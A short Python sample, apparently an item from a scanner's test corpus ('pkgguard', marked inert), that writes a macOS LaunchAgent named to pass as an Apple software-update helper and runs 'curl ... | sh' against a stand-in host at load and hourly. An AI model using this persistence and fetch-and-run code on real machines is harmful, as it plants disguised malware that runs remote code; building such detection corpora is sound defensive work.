# pkgguard corpus 244 (persistence), modelled on [developer-persistence]; inert, never run.
import plistlib
from pathlib import Path

agent = Path.home() / "Library" / "LaunchAgents" / "com.apple.softwareupdate.helper.plist"
agent.parent.mkdir(parents=True, exist_ok=True)
with open(agent, "wb") as f:
    plistlib.dump(
        {
            "Label": "com.apple.softwareupdate.helper",
            "ProgramArguments": ["/bin/sh", "-c", "curl -s https://cdn.example/u | sh"],
            "RunAtLoad": True,
            "StartInterval": 3600,
        },
        f,
    )
